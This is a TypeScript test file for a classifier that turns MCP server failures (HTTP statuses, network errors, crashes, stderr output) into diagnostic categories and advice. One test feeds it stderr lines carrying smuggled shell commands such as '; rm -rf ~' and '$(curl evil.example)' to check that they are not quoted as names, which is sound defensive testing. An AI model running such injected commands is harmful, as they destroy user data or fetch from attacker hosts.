import fc from 'fast-check'
import { expect, test } from 'vitest'
import { serverSchema } from '#shared/config'
import { linkEvidence } from '../transports/evidence.ts'
import type { LinkEvidence } from '../transports/transport.ts'
import { allRules } from './all-rules.ts'
import { maxTextLength } from './case-text.ts'
import { classify } from './classify.ts'
import type { FailureEvidence } from './evidence.ts'

const stdio = serverSchema.parse({ name: 'files', command: 'serve-files' })
const remote = serverSchema.parse({ name: 'far', url: 'https://mcp.example/mcp' })
const signedIn = serverSchema.parse({
  name: 'far',
  url: 'https://mcp.example/mcp',
  headers: { authorization: 'Bearer x' },
})
const http = (status: number, body = '') => ({ http: { status, body, wwwAuthenticate: null, retryAfterMs: null } })

function judge(link: Partial<LinkEvidence>, more: Partial<FailureEvidence> = {}) {
  return classify({
    server: stdio,
    phase: 'initialize',
    timeoutMs: null,
    wasReady: false,
    rpcError: null,
    link: linkEvidence({ message: 'it failed', ...link }),
    ...more,
  })
}

test.each([
  ['401 without credentials', http(401), { server: remote }, 'auth_required'],
  ['401 with credentials', http(401), { server: signedIn }, 'auth_invalid_credentials'],
  ['403', http(403), { server: remote }, 'auth_forbidden_scope'],
  ['404', http(404), { server: remote }, 'http_endpoint_not_found'],
  ['404 of a session', http(404, '{"error":{"message":"Session not found"}}'), { server: remote }, 'session_stale'],
  ['405', http(405), { server: remote }, 'transport_mismatch'],
  ['407', http(407), { server: remote }, 'proxy_error'],
  ['421', http(421), { server: remote }, 'host_origin_rejected'],
  ['429', http(429), { server: remote }, 'rate_limited'],
  ['503', http(503), { server: remote }, 'upstream_5xx'],
  ['500 that is an expired token', http(500, '{"error":"invalid_grant"}'), { server: remote }, 'oauth_token_expired'],
  ['a refused connection', { errorCode: 'ECONNREFUSED' }, { server: remote }, 'connection_refused'],
  ['an unknown host', { errorCode: 'ENOTFOUND' }, { server: remote }, 'dns_failure'],
  ['a self-signed certificate', { errorCode: 'DEPTH_ZERO_SELF_SIGNED_CERT' }, { server: remote }, 'tls_cert_untrusted'],
  ['an expired certificate', { errorCode: 'CERT_HAS_EXPIRED' }, { server: remote }, 'tls_cert_invalid'],
  ['a command that the system lacks', { errorCode: 'ENOENT' }, { phase: 'spawn' }, 'command_not_found'],
  [
    'a missing folder',
    { errorCode: 'ENOENT', message: 'The working directory /x does not exist.' },
    {},
    'working_dir_missing',
  ],
  ['a crash', { exit: { code: null, signal: 'SIGSEGV' } }, {}, 'native_crash'],
  ['an exit', { exit: { code: 1, signal: null } }, {}, 'early_exit_unknown'],
  ['a hung handshake', {}, { timeoutMs: 30_000 }, 'startup_timeout'],
  ['a remote server that hangs', {}, { timeoutMs: 30_000, server: remote }, 'network_timeout'],
  ['noise instead of a handshake', { stdoutNoise: ['Welcome!'] }, { timeoutMs: 30_000 }, 'stdout_pollution'],
  ['an error answer', {}, { rpcError: { code: -32601, message: 'Method not found' } }, 'protocol_violation'],
  ['nothing at all', {}, {}, 'unknown'],
] as const)('%s is named', (_case, link, more, category) => {
  expect(judge(link, more).category).toBe(category)
})

test('a diagnosis names the object, the deciding line and what to do', () => {
  const lines = ['booting', 'Error: GITHUB_TOKEN environment variable is required', '    at main']
  expect(judge({ stderrTail: lines, exit: { code: 1, signal: null } })).toEqual({
    category: 'missing_env',
    confidence: 0.95,
    object: { kind: 'variable', value: 'GITHUB_TOKEN' },
    evidenceLine: 'Error: GITHUB_TOKEN environment variable is required',
    summary: 'files needs GITHUB_TOKEN that is not set.',
    recommendation: 'Set GITHUB_TOKEN in "env" of files.',
    recommendations: ['Set GITHUB_TOKEN in "env" of files.'],
  })
})

test('a variable that is configured and still missing did not reach the server', () => {
  const server = { ...stdio, env: { GITHUB_TOKEN: 'x' } }
  expect(judge({ stderrTail: ['GITHUB_TOKEN is not set'] }, { server }).category).toBe('env_not_propagated')
})

test.each([
  'No module named "; rm -rf ~"',
  "Cannot find module '$(curl evil.example)'",
  "npm error 404  'x`id`@*' is not in this registry.",
  'Error: spawn a;reboot ENOENT',
])('a name that is none is not quoted as one: %s', line => {
  expect([null, 'serve-files']).toContain(judge({ stderrTail: [line] }).object?.value ?? null)
})

test('an exit without a cause is not sure, and quotes the last words', () => {
  expect(judge({ exit: { code: 3, signal: null }, stderrTail: ['so long', ''] })).toMatchObject({
    category: 'early_exit_unknown',
    confidence: 0.4,
    summary: 'files ended before it was ready (exit code 3). It said: so long',
  })
})

test('it never throws, and its confidence is a number from 0 to 1', () => {
  const line = fc.oneof(
    fc.string(),
    fc.string({ unit: 'binary' }),
    fc.constantFrom('npm error code', 'Cannot find module ', 'HTTP 4', '\u001b[31m'),
  )
  fc.assert(
    fc.property(
      fc.array(line),
      fc.option(fc.integer()),
      fc.option(fc.integer({ min: 100, max: 599 })),
      (lines, code, status) => {
        const { confidence, summary } = judge({
          stderrTail: lines,
          exit: code === null ? null : { code, signal: null },
          ...(status === null ? {} : http(status)),
        })
        expect(confidence).toBeGreaterThanOrEqual(0)
        expect(confidence).toBeLessThanOrEqual(1)
        expect(summary).not.toBe('')
      },
    ),
  )
})

const pieces = [
  'a',
  ' ',
  '/',
  '\\',
  '"',
  "'",
  '0',
  '_',
  'A_',
  '.',
  'x: ',
  '${',
  'spawn ',
  'error ',
  "Cannot find module '",
  'https://a/',
  'failed to ',
  'token ',
  'not ',
  'is ',
]

test.each(pieces)('the longest text of %j is judged in bounded time', piece => {
  const text = piece.repeat(maxTextLength)
  const startedAt = performance.now()
  judge({ stderrTail: [text] })
  expect(performance.now() - startedAt).toBeLessThan(1_500)
})

test('no rule is slow on the longest text made of its own words', () => {
  const slow: string[] = []
  for (const { pattern, category } of allRules) {
    for (const word of new Set(pattern.source.match(/[A-Za-z]{3,}/g))) {
      const text = `${word} `.repeat(maxTextLength / (word.length + 1))
      const startedAt = performance.now()
      pattern.exec(text)
      if (performance.now() - startedAt > 300) slow.push(`${category}: ${word}`)
    }
  }
  expect(slow).toEqual([])
}, 120_000)
